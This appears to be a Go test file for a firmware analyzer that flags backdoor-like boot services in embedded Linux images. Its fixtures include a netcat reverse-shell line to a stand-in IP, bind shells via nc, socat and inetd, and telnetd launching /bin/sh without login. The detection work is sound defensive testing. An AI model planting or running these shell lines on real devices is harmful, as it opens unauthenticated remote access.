package services

import (
	"bytes"
	"context"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/netvet/netvet/internal/firmware"
	"github.com/netvet/netvet/internal/firmware/fwtest"
)

// bbApplets builds a BusyBox-like binary whose applet list holds the
// given applets (and the usual basics, so the list is readable).
func bbApplets(applets ...string) string {
	list := append([]string{"[", "[[", "ash", "cat", "echo", "ls", "mount", "sh", "sleep"}, applets...)
	return "\x7fELF\x01\x01\x01\x00" + strings.Repeat("\x00", 64) + "BusyBox v1.36.1 (2024-03-01) multi-call binary.\x00" +
		"\x00" + strings.Join(list, "\x00") + "\x00"
}

const elf = "\x7fELF\x02\x01\x01\x00 program"

// busybox returns the entries of a /bin/busybox with links for applets.
func busybox(applets ...string) []fwtest.FSEntry {
	out := []fwtest.FSEntry{fwtest.FileEntry("/bin/busybox", bbApplets(applets...), 0o755)}
	out = append(out, fwtest.SymlinkEntry("/bin/sh", "busybox"), fwtest.SymlinkEntry("/bin/ash", "busybox"))
	for _, a := range applets {
		dir := "/usr/sbin/"
		switch a {
		case "nc", "telnet":
			dir = "/usr/bin/"
		}
		out = append(out, fwtest.SymlinkEntry(dir+a, "../../bin/busybox"))
	}
	return out
}

func file(p, data string) fwtest.FSEntry { return fwtest.FileEntry(p, data, 0o755) }

func entries(groups ...[]fwtest.FSEntry) []fwtest.FSEntry {
	var out []fwtest.FSEntry
	for _, g := range groups {
		out = append(out, g...)
	}
	return out
}

func run(t *testing.T, es []fwtest.FSEntry) []firmware.Finding {
	t.Helper()
	tr := fwtest.FS(t, es...)
	var got []firmware.Finding
	if err := New().Analyze(context.Background(), tr, firmware.ReporterFunc(func(f firmware.Finding) { got = append(got, f) })); err != nil {
		t.Fatal(err)
	}
	return got
}

type want struct {
	rule, path string
	line       int
	ev         []string
}

func check(t *testing.T, got []firmware.Finding, wants []want) {
	t.Helper()
	dump := func() {
		for _, g := range got {
			t.Logf("got %s %s:%d off %d: %s", g.Rule, g.FSPath, g.Line, g.Offset, g.Evidence)
		}
	}
	if len(got) != len(wants) {
		dump()
		t.Fatalf("got %d findings, want %d", len(got), len(wants))
	}
	used := make([]bool, len(got))
	for _, w := range wants {
		found := false
		for i, g := range got {
			if used[i] || g.Rule != w.rule || g.FSPath != w.path || (w.line != 0 && g.Line != w.line) || g.Analyzer != "services" {
				continue
			}
			ok := true
			for _, e := range w.ev {
				ok = ok && strings.Contains(g.Evidence, e)
			}
			if ok {
				used[i], found = true, true
				break
			}
		}
		if !found {
			dump()
			t.Fatalf("missing %+v", w)
		}
	}
}

func TestBootPaths(t *testing.T) {
	cases := []struct {
		name  string
		es    []fwtest.FSEntry
		wants []want
	}{
		{
			name: "busybox inittab telnetd with a shell",
			es: entries(busybox("telnetd"), []fwtest.FSEntry{
				file("/etc/inittab", "::sysinit:/etc/init.d/rcS\n# debug access\n::respawn:/usr/sbin/telnetd -F -l /bin/sh\n"),
				file("/etc/init.d/rcS", "#!/bin/sh\nmount -a\n"),
			}),
			wants: []want{{rule: "NV-SVC-001", path: "/etc/inittab", line: 3,
				ev: []string{"telnetd runs /bin/sh for every connection, with no login", "inittab (respawn) at /etc/inittab line 3", `"::respawn:/usr/sbin/telnetd -F -l /bin/sh"`}}},
		},
		{
			name: "telnetd with login from rcS",
			es: entries(busybox("telnetd"), []fwtest.FSEntry{
				file("/etc/inittab", "::sysinit:/etc/init.d/rcS\n"),
				file("/etc/init.d/rcS", "#!/bin/sh\n/usr/sbin/telnetd -l /bin/login\n"),
			}),
			wants: []want{{rule: "NV-SVC-002", path: "/etc/init.d/rcS", line: 2, ev: []string{"login program /bin/login", "reached via /etc/inittab line 1"}}},
		},
		{
			name: "applet missing from busybox means no telnetd",
			es: entries(busybox(), []fwtest.FSEntry{
				fwtest.SymlinkEntry("/usr/sbin/telnetd", "../../bin/busybox"),
				file("/etc/inittab", "::respawn:/usr/sbin/telnetd -l /bin/sh\n"),
			}),
		},
		{
			name: "busybox telnetd invoked through busybox",
			es: entries(busybox("telnetd"), []fwtest.FSEntry{
				file("/etc/inittab", "::sysinit:/bin/busybox telnetd -l /bin/ash -p 23\n"),
			}),
			wants: []want{{rule: "NV-SVC-001", path: "/etc/inittab", ev: []string{"on port 23 runs /bin/ash"}}},
		},
		{
			name: "sysv for loop over S scripts with case dispatch",
			es: entries(busybox("telnetd"), []fwtest.FSEntry{
				file("/etc/inittab", "id:3:initdefault:\nsi::sysinit:/etc/init.d/rcS\nl6:6:wait:/etc/init.d/rc 6\n"),
				file("/etc/init.d/rcS", "#!/bin/sh\nfor i in /etc/init.d/S??* ;do\n\t[ ! -f \"$i\" ] && continue\n\tcase \"$i\" in\n\t*.sh) . $i ;;\n\t*) $i start ;;\n\tesac\ndone\n"),
				file("/etc/init.d/S50telnet", "#!/bin/sh\nstart() {\n\ttelnetd -l /bin/sh\n}\nstop() {\n\tkillall telnetd\n}\ncase \"$1\" in\n  start) start ;;\n  stop) stop ;;\nesac\n"),
				file("/etc/init.d/rc", "#!/bin/sh\n/usr/sbin/telnetd -l /bin/login\n"),
			}),
			wants: []want{{rule: "NV-SVC-001", path: "/etc/init.d/S50telnet", line: 3,
				ev: []string{"reached via /etc/inittab line 2 -> /etc/init.d/rcS line 6"}}},
		},
		{
			name: "variables and word splitting",
			es: entries(busybox("telnetd"), []fwtest.FSEntry{
				file("/etc/inittab", "::sysinit:/etc/init.d/rcS\n"),
				file("/etc/init.d/rcS", "#!/bin/sh\nDAEMON=/usr/sbin/telnetd\nOPTS=\"-p 2323 -l /bin/sh\"\n$DAEMON $OPTS &\n"),
			}),
			wants: []want{{rule: "NV-SVC-001", path: "/etc/init.d/rcS", line: 4, ev: []string{"on port 2323 runs /bin/sh"}}},
		},
		{
			name: "function from a sourced library",
			es: entries(busybox("telnetd"), []fwtest.FSEntry{
				file("/etc/inittab", "::sysinit:/etc/init.d/rcS\n"),
				file("/lib/svc.sh", "# helpers\n\nstart_debug() {\n\ttelnetd -l /bin/sh -p \"$1\"\n}\n"),
				file("/etc/init.d/rcS", "#!/bin/sh\n. /lib/svc.sh\nstart_debug 2525\n"),
			}),
			wants: []want{{rule: "NV-SVC-001", path: "/lib/svc.sh", line: 4, ev: []string{"on port 2525", "reached via /etc/inittab line 1"}}},
		},
		{
			name: "exit stops the script",
			es: entries(busybox("telnetd"), []fwtest.FSEntry{
				file("/etc/inittab", "::sysinit:/etc/init.d/rcS\n"),
				file("/etc/init.d/rcS", "#!/bin/sh\nmount -a\nexit 0\ntelnetd -l /bin/sh\n"),
			}),
			wants: []want{{rule: "NV-SVC-018", path: "/usr/sbin/telnetd", ev: []string{"no inittab entry"}}},
		},
		{
			name: "conditional exit does not stop the script",
			es: entries(busybox("telnetd"), []fwtest.FSEntry{
				file("/etc/inittab", "::sysinit:/etc/init.d/rcS\n"),
				file("/etc/init.d/rcS", "#!/bin/sh\n[ -f /etc/nodebug ] && exit 0\nif [ -x /usr/sbin/telnetd ]; then\n  telnetd -l /bin/login &\nfi\n"),
			}),
			wants: []want{{rule: "NV-SVC-002", path: "/etc/init.d/rcS", line: 4}},
		},
		{
			name: "openwrt dropbear key only from uci",
			es: entries(busybox(), openwrtBase(), []fwtest.FSEntry{
				fwtest.FileEntry("/etc/config/dropbear", "config dropbear\n\toption PasswordAuth 'off'\n\toption RootPasswordAuth 'off'\n\toption Port '22'\n", 0o644),
			}),
			wants: []want{
				{rule: "NV-SVC-012", path: "/etc/init.d/dropbear", line: 33, ev: []string{"password logins disabled", "PasswordAuth off", "reached via /etc/inittab line 1 -> /etc/init.d/rcS line 6"}},
				{rule: "NV-SVC-016", path: "/etc/init.d/uhttpd", line: 7},
			},
		},
		{
			name: "openwrt dropbear with password auth from uci",
			es: entries(busybox(), openwrtBase(), []fwtest.FSEntry{
				fwtest.FileEntry("/etc/config/dropbear", "config dropbear\n\toption PasswordAuth 'on'\n\toption RootPasswordAuth 'on'\n", 0o644),
			}),
			wants: []want{
				{rule: "NV-SVC-009", path: "/etc/init.d/dropbear", ev: []string{"root's included", "PasswordAuth on"}},
				{rule: "NV-SVC-016", path: "/etc/init.d/uhttpd", line: 7},
			},
		},
		{
			name: "openwrt dropbear not enabled",
			es: entries(busybox(), withoutLink(openwrtBase(), "/etc/rc.d/S19dropbear"), []fwtest.FSEntry{
				fwtest.FileEntry("/etc/config/dropbear", "config dropbear\n\toption PasswordAuth 'on'\n", 0o644),
			}),
			wants: []want{
				{rule: "NV-SVC-019", path: "/etc/init.d/dropbear", ev: []string{"only started by init script /etc/init.d/dropbear (no boot path runs it)"}},
				{rule: "NV-SVC-016", path: "/etc/init.d/uhttpd", line: 7},
			},
		},
		{
			name: "conditional -s without uci does not count",
			es: entries(busybox(), []fwtest.FSEntry{
				file("/usr/sbin/dropbear", elf),
				file("/etc/init.d/dropbear", "#!/bin/sh /etc/rc.common\nSTART=19\nUSE_PROCD=1\nstart_service() {\n\tprocd_open_instance\n\tprocd_set_param command /usr/sbin/dropbear -F\n\t[ -f /etc/keysonly ] && procd_append_param command -s\n\tprocd_close_instance\n}\n"),
				fwtest.SymlinkEntry("/etc/rc.d/S19dropbear", "../init.d/dropbear"),
			}),
			wants: []want{{rule: "NV-SVC-009", path: "/etc/init.d/dropbear", line: 6, ev: []string{"-s is only passed under a condition"}}},
		},
		{
			name: "legacy openwrt telnet service_start",
			es: entries(busybox("telnetd"), []fwtest.FSEntry{
				file("/etc/init.d/telnet", "#!/bin/sh /etc/rc.common\nSTART=50\nstart() {\n\tservice_start /usr/sbin/telnetd -l /bin/login.sh\n}\nstop() {\n\tservice_stop /usr/sbin/telnetd\n}\n"),
				fwtest.SymlinkEntry("/etc/rc.d/S50telnet", "../init.d/telnet"),
				file("/bin/login.sh", "#!/bin/sh\nexec /bin/ash --login\n"),
			}),
			wants: []want{{rule: "NV-SVC-002", path: "/etc/init.d/telnet", line: 4, ev: []string{"login program /bin/login.sh"}}},
		},
		{
			name: "start-stop-daemon",
			es: entries(busybox(), []fwtest.FSEntry{
				file("/usr/sbin/dropbear", elf),
				file("/etc/init.d/S40ssh", "#!/bin/sh\ncase \"$1\" in\nstart)\n\tstart-stop-daemon -S -q -p /var/run/dropbear.pid -x /usr/sbin/dropbear -- -s -g -R\n\t;;\nstop)\n\tstart-stop-daemon -K -q -x /usr/sbin/dropbear\n\t;;\nesac\n"),
				fwtest.SymlinkEntry("/etc/rc3.d/S40ssh", "../init.d/S40ssh"),
			}),
			wants: []want{{rule: "NV-SVC-012", path: "/etc/init.d/S40ssh", line: 4, ev: []string{"init script enabled by /etc/rc3.d/S40ssh"}}},
		},
		{
			name: "systemd socket and services",
			es: entries(busybox(), []fwtest.FSEntry{
				file("/usr/sbin/in.telnetd", elf),
				file("/usr/sbin/sshd", elf),
				file("/usr/bin/gdbserver", elf),
				fwtest.SymlinkEntry("/sbin/init", "/lib/systemd/systemd"),
				fwtest.FileEntry("/lib/systemd/system/telnet.socket", "[Unit]\nDescription=Telnet\n[Socket]\nListenStream=23\nAccept=yes\n[Install]\nWantedBy=sockets.target\n", 0o644),
				fwtest.FileEntry("/lib/systemd/system/telnet@.service", "[Service]\nExecStart=-/usr/sbin/in.telnetd\nStandardInput=socket\n", 0o644),
				fwtest.SymlinkEntry("/etc/systemd/system/sockets.target.wants/telnet.socket", "/lib/systemd/system/telnet.socket"),
				fwtest.FileEntry("/lib/systemd/system/ssh.service", "[Unit]\nDescription=OpenSSH\n[Service]\nExecStartPre=/usr/sbin/sshd -t\nExecStart=/usr/sbin/sshd -D $SSHD_OPTS\n[Install]\nWantedBy=multi-user.target\n", 0o644),
				fwtest.SymlinkEntry("/etc/systemd/system/multi-user.target.wants/ssh.service", "/lib/systemd/system/ssh.service"),
				fwtest.FileEntry("/etc/ssh/sshd_config", "Port 22\nPermitRootLogin yes\n#PasswordAuthentication no\nMatch User guest\n\tPasswordAuthentication no\n", 0o644),
				fwtest.FileEntry("/lib/systemd/system/gdb.service", "[Service]\nExecStart=/usr/bin/gdbserver --multi :2345\n", 0o644),
			}),
			wants: []want{
				{rule: "NV-SVC-002", path: "/lib/systemd/system/telnet@.service", line: 2, ev: []string{"systemd socket telnet.socket (listening on 23) enabled by /etc/systemd/system/sockets.target.wants/telnet.socket"}},
				{rule: "NV-SVC-010", path: "/lib/systemd/system/ssh.service", line: 5, ev: []string{"PermitRootLogin yes, /etc/ssh/sshd_config line 2", "PasswordAuthentication yes, default"}},
				{rule: "NV-SVC-018", path: "/lib/systemd/system/gdb.service", line: 2, ev: []string{"systemd unit gdb.service (not enabled)"}},
			},
		},
		{
			name: "sshd key only and -o override",
			es: entries(busybox(), []fwtest.FSEntry{
				file("/usr/sbin/sshd", elf),
				file("/etc/inittab", "::sysinit:/usr/sbin/sshd -o PasswordAuthentication=no\n"),
				fwtest.FileEntry("/etc/ssh/sshd_config", "PasswordAuthentication yes\n", 0o644),
			}),
			wants: []want{{rule: "NV-SVC-012", path: "/etc/inittab", ev: []string{"PasswordAuthentication no (-o on the command line)"}}},
		},
		{
			name: "inetd services",
			es: entries(busybox("telnetd", "inetd", "tftpd"), []fwtest.FSEntry{
				file("/etc/inittab", "::sysinit:/etc/init.d/rcS\n"),
				file("/etc/init.d/rcS", "#!/bin/sh\n/usr/sbin/inetd /etc/inetd.conf\n"),
				fwtest.FileEntry("/etc/inetd.conf", "# services\ntelnet\tstream\ttcp\tnowait\troot\t/usr/sbin/telnetd\ttelnetd -i -l /bin/sh\n9999 stream tcp nowait root /bin/sh sh -i\ntftp dgram udp wait root /usr/sbin/tftpd tftpd -c /srv\necho stream tcp nowait root internal\n", 0o644),
			}),
			wants: []want{
				{rule: "NV-SVC-001", path: "/etc/inetd.conf", line: 2, ev: []string{"started at boot by inetd (telnet/tcp)"}},
				{rule: "NV-SVC-003", path: "/etc/inetd.conf", line: 3, ev: []string{"sh is attached to each network connection"}},
				{rule: "NV-SVC-006", path: "/etc/inetd.conf", line: 4, ev: []string{"accepts uploads"}},
			},
		},
		{
			name: "inetd not started",
			es: entries(busybox("telnetd"), []fwtest.FSEntry{
				fwtest.FileEntry("/etc/inetd.conf", "telnet stream tcp nowait root /usr/sbin/telnetd telnetd -i\n", 0o644),
				file("/etc/inittab", "::sysinit:/bin/mount -a\n"),
			}),
			wants: []want{{rule: "NV-SVC-018", path: "/etc/inetd.conf", line: 1, ev: []string{"inetd not started at boot"}}},
		},
		{
			name: "xinetd",
			es: entries(busybox(), []fwtest.FSEntry{
				file("/usr/sbin/xinetd", elf), file("/usr/sbin/in.rshd", elf), file("/usr/sbin/in.tftpd", elf),
				file("/etc/inittab", "::sysinit:/usr/sbin/xinetd -stayalive\n"),
				fwtest.FileEntry("/etc/xinetd.d/rsh", "service shell\n{\n\tsocket_type = stream\n\tserver = /usr/sbin/in.rshd\n\tdisable = no\n}\n", 0o644),
				fwtest.FileEntry("/etc/xinetd.d/tftp", "service tftp\n{\n\tserver = /usr/sbin/in.tftpd\n\tserver_args = -s /srv\n\tdisable = yes\n}\n", 0o644),
				fwtest.FileEntry("/etc/hosts.equiv", "# trusted\n+\n", 0o644),
			}),
			wants: []want{
				{rule: "NV-SVC-005", path: "/etc/xinetd.d/rsh", line: 4, ev: []string{"/etc/hosts.equiv line 2"}},
				{rule: "NV-SVC-018", path: "/etc/xinetd.d/tftp", line: 3, ev: []string{"disable = yes"}},
			},
		},
		{
			name: "cron at reboot",
			es: entries(busybox("crond"), []fwtest.FSEntry{
				file("/usr/bin/gdbserver", elf),
				file("/etc/inittab", "::sysinit:/etc/init.d/rcS\n"),
				file("/etc/init.d/rcS", "#!/bin/sh\ncrond -c /etc/crontabs\n"),
				fwtest.FileEntry("/etc/crontabs/root", "SHELL=/bin/sh\n*/5 * * * * /usr/sbin/ntpd -q\n@reboot /usr/bin/gdbserver :1234 /usr/bin/app\n", 0o644),
			}),
			wants: []want{{rule: "NV-SVC-007", path: "/etc/crontabs/root", line: 3, ev: []string{"cron (@reboot)", "gdbserver :1234 /usr/bin/app"}}},
		},
		{
			name: "serial consoles",
			es: entries(busybox(), []fwtest.FSEntry{
				file("/sbin/getty", elf), file("/sbin/agetty", elf),
				file("/etc/inittab", "ttyS0::askfirst:-/bin/sh\n::respawn:/sbin/getty -L ttyS1 115200 vt100\nid:3:initdefault:\nT0:23:respawn:/sbin/agetty -a root ttyS2 115200\nT1:6:respawn:/bin/sh\n::sysinit:/bin/sh /etc/init.d/rcS\n"),
			}),
			wants: []want{
				{rule: "NV-SVC-017", path: "/etc/inittab", line: 1, ev: []string{"runs /bin/sh with no login on ttyS0"}},
				{rule: "NV-SVC-017", path: "/etc/inittab", line: 4, ev: []string{"logs in root automatically (-a) on ttyS2"}},
			},
		},
		{
			name: "console program that is a script starting a shell",
			es: entries(busybox(), []fwtest.FSEntry{
				file("/etc/inittab", "::sysinit:/etc/init.d/rcS\n::askconsole:/usr/libexec/login.sh\n"),
				file("/etc/init.d/rcS", "#!/bin/sh\nOPTS=\"-l /bin/sh\"\nlogger x | /bin/sh\n"),
				file("/usr/libexec/login.sh", "#!/bin/sh\n[ \"$(uci -q get system.@system[0].ttylogin)\" = 1 ] || exec /bin/ash --login\nexec /bin/login\n"),
			}),
			wants: []want{{rule: "NV-SVC-017", path: "/etc/inittab", line: 2,
				ev: []string{`runs /usr/libexec/login.sh, which starts "/bin/ash --login" without login at line 2 (under a condition`}}},
		},
		{
			name: "no inittab with busybox init",
			es: entries(busybox("telnetd"), []fwtest.FSEntry{
				fwtest.SymlinkEntry("/sbin/init", "../bin/busybox"),
				file("/etc/init.d/rcS", "#!/bin/sh\ntelnetd\n"),
			}),
			wants: []want{
				{rule: "NV-SVC-017", path: "/sbin/init", ev: []string{"no /etc/inittab"}},
				{rule: "NV-SVC-002", path: "/etc/init.d/rcS", line: 2, ev: []string{"BusyBox init (built-in sysinit)"}},
			},
		},
		{
			name: "netcat and socat",
			es: entries(busybox("nc"), []fwtest.FSEntry{
				file("/usr/bin/socat", elf),
				file("/etc/inittab", "::sysinit:/etc/init.d/rcS\n"),
				file("/etc/init.d/rcS", "#!/bin/sh\nnc -l -p 4444 &\nnc -ll -p 5555 | /bin/sh &\nsocat TCP-LISTEN:2222,reuseaddr,fork EXEC:/bin/sh,pty,stderr &\nnc 198.51.100.7 443 -e /bin/sh &\nnc -z 192.0.2.1 80\n/bin/sh -c 'cat /proc/version' | nc -l -p 7 &\n"),
			}),
			wants: []want{
				{rule: "NV-SVC-008", path: "/etc/init.d/rcS", line: 2, ev: []string{"nc listens for connections"}},
				{rule: "NV-SVC-003", path: "/etc/init.d/rcS", line: 3, ev: []string{"a pipeline into a shell"}},
				{rule: "NV-SVC-003", path: "/etc/init.d/rcS", line: 4, ev: []string{"socat joins TCP-LISTEN:2222"}},
				{rule: "NV-SVC-003", path: "/etc/init.d/rcS", line: 5, ev: []string{"reverse shell"}},
				{rule: "NV-SVC-008", path: "/etc/init.d/rcS", line: 7},
			},
		},
		{
			name: "ftp snmp web and tcpsvd",
			es: entries(busybox("ftpd", "httpd"), []fwtest.FSEntry{
				file("/usr/sbin/vsftpd", elf), file("/usr/sbin/snmpd", elf), file("/usr/sbin/tcpsvd", elf),
				file("/etc/inittab", "::sysinit:/etc/init.d/rcS\n"),
				file("/etc/init.d/rcS", "#!/bin/sh\ntcpsvd -vE 0.0.0.0 21 ftpd -w /srv &\nvsftpd /etc/vsftpd.conf &\nsnmpd -c /etc/snmpd.conf\nhttpd -h /www\n"),
				fwtest.FileEntry("/etc/vsftpd.conf", "listen=YES\nanonymous_enable=YES\n", 0o644),
			}),
			wants: []want{
				{rule: "NV-SVC-013", path: "/etc/init.d/rcS", line: 2},
				{rule: "NV-SVC-014", path: "/etc/init.d/rcS", line: 3, ev: []string{"/etc/vsftpd.conf line 2"}},
				{rule: "NV-SVC-015", path: "/etc/init.d/rcS", line: 4},
				{rule: "NV-SVC-016", path: "/etc/init.d/rcS", line: 5},
			},
		},
		{
			name: "installed but never started",
			es: entries(busybox("telnetd", "httpd"), []fwtest.FSEntry{
				file("/usr/sbin/lighttpd", elf),
				fwtest.SymlinkEntry("/sbin/telnetd", "../bin/busybox"),
				file("/etc/inittab", "::sysinit:/bin/mount -a\n"),
			}),
			wants: []want{
				{rule: "NV-SVC-018", path: "/sbin/telnetd", ev: []string{"an applet of BusyBox", "(and 1 other links)"}},
				{rule: "NV-SVC-019", path: "/usr/sbin/httpd"},
				{rule: "NV-SVC-019", path: "/usr/sbin/lighttpd", ev: []string{"web server"}},
			},
		},
		{
			name: "program missing from the filesystem",
			es: entries(busybox(), []fwtest.FSEntry{
				file("/etc/inittab", "::respawn:/usr/sbin/utelnetd -l /bin/sh -d\n"),
			}),
			wants: []want{{rule: "NV-SVC-001", path: "/etc/inittab", ev: []string{"[program not found in this filesystem]"}}},
		},
		{
			name: "sh -c and eval",
			es: entries(busybox("telnetd"), []fwtest.FSEntry{
				file("/etc/inittab", "::sysinit:/bin/sh -c '/usr/sbin/telnetd -l /bin/sh'\n::once:/bin/sh /etc/debug.sh\n"),
				file("/etc/debug.sh", "CMD='/usr/sbin/telnetd -p 24 -l /bin/login'\neval \"$CMD\"\n"),
			}),
			wants: []want{
				{rule: "NV-SVC-001", path: "/etc/inittab", line: 1},
				{rule: "NV-SVC-002", path: "/etc/debug.sh", line: 2, ev: []string{"on port 24"}},
			},
		},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			got := run(t, tc.es)
			check(t, got, tc.wants)
			for _, g := range got {
				if g.Line > 0 && g.Offset >= 0 {
					checkLineOffset(t, tc.es, g)
				}
			}
		})
	}
}

// checkLineOffset verifies that the offset of a finding is the start of
// its line in the file.
func checkLineOffset(t *testing.T, es []fwtest.FSEntry, g firmware.Finding) {
	t.Helper()
	for _, e := range es {
		if e.Path != g.FSPath {
			continue
		}
		lines := strings.SplitAfter(e.Data, "\n")
		if g.Line > len(lines) {
			t.Fatalf("%s: line %d beyond the file", g.FSPath, g.Line)
		}
		off := 0
		for _, l := range lines[:g.Line-1] {
			off += len(l)
		}
		if int64(off) != g.Offset {
			t.Fatalf("%s line %d: offset %d, want %d", g.FSPath, g.Line, g.Offset, off)
		}
	}
}

// openwrtBase is a trimmed OpenWrt boot setup: procd's inittab, the
// rc.d links and the real shape of the dropbear and uhttpd init scripts.
func openwrtBase() []fwtest.FSEntry {
	return []fwtest.FSEntry{
		file("/usr/sbin/dropbear", elf),
		file("/usr/sbin/uhttpd", elf),
		file("/etc/inittab", "::sysinit:/etc/init.d/rcS S boot\n::shutdown:/etc/init.d/rcS K shutdown\n::askconsole:/usr/libexec/login.sh\n"),
		file("/usr/libexec/login.sh", "#!/bin/sh\nexec /bin/login\n"),
		file("/etc/init.d/rcS", "#!/bin/sh\n# Copyright (C) 2006 OpenWrt.org\n\nrun_scripts() {\n\tfor i in /etc/rc.d/$1*; do\n\t\t[ -x $i ] && $i $2 2>&1\n\tdone | $LOGGER\n}\n\nLOGGER=\"cat\"\n[ -x /usr/bin/logger ] && LOGGER=\"logger -s -p 6 -t sysinit\"\n\nif [ \"$1\" = \"S\" ]; then\n\trun_scripts \"$1\" \"$2\" &\nelse\n\trun_scripts \"$1\" \"$2\"\nfi\n"),
		file("/etc/init.d/dropbear", dropbearInit),
		fwtest.SymlinkEntry("/etc/rc.d/S19dropbear", "../init.d/dropbear"),
		fwtest.SymlinkEntry("/etc/rc.d/K50dropbear", "../init.d/dropbear"),
		file("/etc/init.d/uhttpd", "#!/bin/sh /etc/rc.common\nSTART=50\nUSE_PROCD=1\nUHTTPD_BIN=\"/usr/sbin/uhttpd\"\nstart_instance() {\n\tprocd_open_instance\n\tprocd_set_param command \"$UHTTPD_BIN\" -f\n\tprocd_close_instance\n}\nstart_service() {\n\tconfig_load uhttpd\n\tconfig_foreach start_instance uhttpd\n}\n"),
		fwtest.FileEntry("/etc/config/uhttpd", "config uhttpd main\n\tlist listen_http '0.0.0.0:80'\n", 0o644),
		fwtest.SymlinkEntry("/etc/rc.d/S50uhttpd", "../init.d/uhttpd"),
	}
}

const dropbearInit = `#!/bin/sh /etc/rc.common
# Copyright (C) 2006-2010 OpenWrt.org

START=19
STOP=50

USE_PROCD=1
PROG=/usr/sbin/dropbear
NAME=dropbear
PIDCOUNT=0

validate_section_dropbear()
{
	uci_load_validate dropbear dropbear "$1" "$2" \
		'PasswordAuth:bool:1' \
		'RootPasswordAuth:bool:1' \
		'RootLogin:bool:1' \
		'Port:list(port):22'
}

dropbear_instance()
{
	[ "$2" = 0 ] || {
		echo "validation failed"
		return 1
	}

	[ "${enable}" = "0" ] && return 1
	PIDCOUNT="$(( ${PIDCOUNT} + 1))"
	local pid_file="/var/run/${NAME}.${PIDCOUNT}.pid"

	procd_open_instance
	procd_set_param command "$PROG" -F -P "$pid_file"
	[ "${PasswordAuth}" -eq 0 ] && procd_append_param command -s
	[ "${RootPasswordAuth}" -eq 0 ] && procd_append_param command -g
	[ "${RootLogin}" -eq 0 ] && procd_append_param command -w
	procd_append_param command -p "${Port}"
	procd_set_param respawn
	procd_close_instance
}

start_service()
{
	. /lib/functions.sh
	. /lib/functions/network.sh

	config_load "${NAME}"
	config_foreach validate_section_dropbear dropbear dropbear_instance
}

stop_service()
{
	killall dropbear
}
`

func withoutLink(es []fwtest.FSEntry, p string) []fwtest.FSEntry {
	var out []fwtest.FSEntry
	for _, e := range es {
		if e.Path != p {
			out = append(out, e)
		}
	}
	return out
}

// TestCleanOpenWrt: a normal OpenWrt-like root with dropbear on keys only
// and a web server raises nothing high or critical.
func TestCleanOpenWrt(t *testing.T) {
	es := entries(busybox("httpd"), openwrtBase(), []fwtest.FSEntry{
		fwtest.FileEntry("/etc/config/dropbear", "config dropbear\n\toption PasswordAuth 'off'\n\toption RootPasswordAuth 'off'\n\toption Port '22'\n", 0o644),
		fwtest.FileEntry("/etc/crontabs/root", "0 4 * * * /sbin/logread -f\n", 0o644),
	})
	got := run(t, es)
	rules := map[string]bool{}
	for _, g := range got {
		rules[g.Rule] = true
		if g.Severity >= firmware.SeverityMedium {
			t.Errorf("clean tree: %s %s:%d %s", g.Rule, g.FSPath, g.Line, g.Evidence)
		}
	}
	if !rules["NV-SVC-012"] || !rules["NV-SVC-016"] {
		t.Errorf("want the key-only dropbear and uhttpd listed, got %v", rules)
	}
}

func TestInfo(t *testing.T) {
	info := New().Info()
	if info.Name != "services" || len(info.Rules) != 19 {
		t.Fatalf("%+v", info)
	}
	doc, err := os.ReadFile(filepath.Join("..", "..", "..", "..", "docs", "analyzers-services-fs-backdoor.md"))
	if err != nil {
		t.Fatal(err)
	}
	seen := map[string]bool{}
	for _, r := range info.Rules {
		if seen[r.ID] || r.Title == "" || r.Rationale == "" || r.Severity == firmware.SeverityUnknown {
			t.Errorf("rule %+v", r)
		}
		seen[r.ID] = true
		if !bytes.Contains(doc, []byte("| "+r.ID+" |")) {
			t.Errorf("docs table lacks %s", r.ID)
		}
	}
}

// TestBounded: self-recursive scripts, a fork bomb of sourcing and huge
// loops end.
func TestBounded(t *testing.T) {
	es := entries(busybox("telnetd"), []fwtest.FSEntry{
		file("/etc/inittab", "::sysinit:/etc/init.d/rcS\n"),
		file("/etc/init.d/rcS", "#!/bin/sh\n. /etc/init.d/rcS\n/etc/init.d/a start\nf() { f; f; }\nf\nfor i in /bin/* /bin/* /bin/* /bin/* /bin/*; do /etc/init.d/a $i; done\n"),
		file("/etc/init.d/a", "#!/bin/sh\n/etc/init.d/b\n/etc/init.d/a x$1\ntelnetd -l /bin/login\n"),
		file("/etc/init.d/b", "#!/bin/sh\n/etc/init.d/a\nsh /etc/init.d/b\n"),
	})
	got := run(t, es)
	found := false
	for _, g := range got {
		if g.Rule == "NV-SVC-002" && g.FSPath == "/etc/init.d/a" {
			found = true
		}
	}
	if !found {
		t.Fatalf("telnetd in a recursive script not found: %+v", got)
	}
}

func TestCancel(t *testing.T) {
	tr := fwtest.FS(t, file("/etc/inittab", "::sysinit:/etc/init.d/rcS\n"))
	ctx, cancel := context.WithCancel(context.Background())
	cancel()
	if err := New().Analyze(ctx, tr, firmware.ReporterFunc(func(firmware.Finding) {})); err == nil {
		t.Fatal("want an error for a cancelled context")
	}
}
